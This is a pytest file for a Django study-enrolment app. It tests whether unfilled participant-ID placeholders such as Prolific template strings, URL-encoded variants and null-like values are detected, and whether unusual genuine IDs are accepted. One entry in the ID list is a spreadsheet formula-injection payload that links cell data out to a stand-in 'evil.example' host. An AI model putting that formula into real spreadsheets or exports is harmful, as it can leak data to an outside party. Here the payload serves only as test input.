"""A placeholder that a platform did not fill in is not an external ID, whatever its template language."""

import re
from urllib.parse import quote

import pytest
from django.test import Client

from collection.models import Participant
from enrolment.invitations import Invitation, read_invitation
from enrolment.placeholders import is_placeholder
from evaluation.models import Evaluator
from tests.collection.factories import make_open_study
from tests.enrolment.visits import agree
from tests.evaluation.factories import make_evaluation


def read_list(text: str) -> list[str]:
    """Return the items that two spaces or a line break separate."""
    return re.split(r"\s{2,}", text.strip())


UNFILLED = read_list(r"""
    {{%PROLIFIC_PID%}}   %SURVEY_CODE%   ASSIGNMENT_ID_NOT_AVAILABLE   %PROLIFIC_PID%   {PID}   {{PID}}   [[PID]]
    [PID]   [%PID%]   <PID>   <<PID>>   %%PID%%   ${PID}   $PID   $PID$   #PID#   ##PID##   __PID__   prolific_pid
    PROLIFIC_PID   ProlificPid   undefined   null   None   NaN   [object Object]   %25PID%25   %2525PID%2525
    %7B%7BPID%7D%7D   %257B%257BPID%257D%257D   &lt;PID&gt;   (PID)   {0}   %s   %1$s   :pid   @PID@   @@PID@@
    *|PID|*   ***   ???   -   ...   XXXX   pre-{{ID}}   pre-${ID}   user-%ID%   {% pid %}   <%= pid %>   #{pid}
    @{pid}   %{pid}   【PID】   ｛PID｝   ＜PID＞   ％PID％   «PID»   workerId   worker_id   participantID   WORKER_ID
    SUBJECT-ID   NAME   not available   !PID!   ~PID~   %ADDRESS%   %FACE%   %device%   ${e://Field/PROLIFIC_PID}
    {{ pid | default }}   $(pid)   {pid|x}   %5BPID%5D   $[PID]   %7bPID%7d   ___PID___   “PID”   "{{PID}}"
    '%PID%'   {{{PID}}}   «MERGEFIELD»   \\{PID\\}   `PID`   "PID"   (null)   <null>   [null]   []   {}   ()   %20
    N/A   #N/A   #REF!   #NAME?   PID   id   |PID|   ||PID||   &#123;&#123;PID&#125;&#125;
    %255B%255BPID%255D%255D   { PID }   $ {PID}   %PROLIFIC PID%   ^PID^   ==PID==   [PROLIFIC_PID]   %ID%   %
    [ID_from_prolific]   <insert id here>   [insert id]   %%   $$PID$$   ___
    YOUR_ID   replace-me   INSERT_PID_HERE   %PROLIFIC_PID
    :pid:   @PID   #pid   ##pid   PID%   ;PID;   %(pid)s   @(pid)   R_[RID]   [RID]/   id=[PID]   user-[respondent id]
    NA   n.a.   false   true   blank   workerid   USERID   RespondentID   RID   panelist
    00000000-0000-0000-0000-000000000000
""")
IDS = read_list(r"""
    o-brien_77   50%off   A1B2[3]   anna@example.org   anna+test@example.org
    3f2504e0-4f89-11d3-9a0c-0305e82c3301   {3F2504E0-4F89-11D3-9A0C-0305E82C3301}   A2SUAM1J3GNN3B   5f3a9c1b2d
    李雷   Ünal Öztürk   Anna   David   o'brien   100%   a#1   C#   user$   pa$$word   _anna_   anna_b
    R_3kQpL0aZ9x   x   77   0   -5   =HYPERLINK("http://evil.example/?"&B2,"pay")   lazy-1   n7   a%b%c   10%-20%
    O’Brien   anna (2)   A&B   a:b   a/b   w7   5f3a   Name7   Nanni   nilufer   Nono   jean-luc   maria_del_mar
    José   M%C3%BCller   %E6%9D%8E   worker-17   participant_003   ID-0017   PID 12   code7   tokenring   #42
    a=b==   YWJj==   null7   +4917012345   anna.nguyen   key-west   bob.name   12%34%56   "anna"   الاسم   Максим
    50%off%20now   a--b   x_y_z   __main   t%   Nuller   nonesuch   user1   p1   A{3}   <3   anna<3   a>b   5>3<4
    a[i]   @anna   #anna   anna:   50%(2)   NA12   Na   worker77   useridea   rid7   truelove   0000   false_7
""")


@pytest.mark.parametrize("value", UNFILLED)
def test_a_placeholder_is_known_by_its_shape(value: str) -> None:
    assert is_placeholder(value, "PROLIFIC_PID")


@pytest.mark.parametrize("value", [*IDS, *(f"R_{number:x}" for number in range(2**40, 2**44, 2**39))])
def test_ids_are_none(value: str) -> None:
    assert not is_placeholder(value, "PROLIFIC_PID")


@pytest.mark.parametrize("value", UNFILLED)
def test_nor_does_it_matter_how_often_a_link_was_encoded(value: str) -> None:
    assert is_placeholder(quote(value), "PROLIFIC_PID")
    assert is_placeholder(quote(quote(value)), "PROLIFIC_PID")


@pytest.mark.parametrize("parameter", ["worker", "p.id", "Teilnehmer-Nr", "número"])
def test_the_parameters_own_name_is_none_in_any_case(parameter: str) -> None:
    for value in (parameter, parameter.upper(), parameter.title(), f"{{{parameter}}}"):
        assert is_placeholder(value, parameter)
    assert not is_placeholder(f"{parameter}-7", parameter)


def test_what_is_kept_beside_the_id_is_passed_over_where_it_was_not_filled_in() -> None:
    query = {"PROLIFIC_PID": "5f3a", "STUDY_ID": "{{%STUDY_ID%}}", "SESSION_ID": "null"}
    assert read_invitation("PROLIFIC_PID", query) == Invitation("5f3a", {})
    assert read_invitation("PROLIFIC_PID", query | {"STUDY_ID": "s1"}).parameters == {"STUDY_ID": "s1"}


@pytest.mark.django_db
@pytest.mark.parametrize(
    "value", ["%25SURVEY_CODE%25", "%2525SURVEY_CODE%2525", "ASSIGNMENT_ID_NOT_AVAILABLE", "[[id]]"]
)
def test_visitors_with_such_a_link_read_that_it_was_not_filled_in(value: str) -> None:
    make_evaluation()
    for door in ("/s/demo/", "/s/demo/judge/1/"):
        for page in (
            Client().get(f"{door}?PROLIFIC_PID={value}"),
            Client().post(f"{door}consent/?PROLIFIC_PID={value}"),
        ):
            assert page.status_code == 400
            assert "“PROLIFIC_PID” in this link was not filled in" in page.text
    assert not Participant.objects.exclude(external_id="").exists()
    assert not Evaluator.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize("value", IDS[:8])
def test_people_with_unusual_ids_take_part(value: str) -> None:
    make_open_study()
    assert agree(Client(), f"?PROLIFIC_PID={quote(value)}").status_code == 302
    assert Participant.objects.get().external_id == value
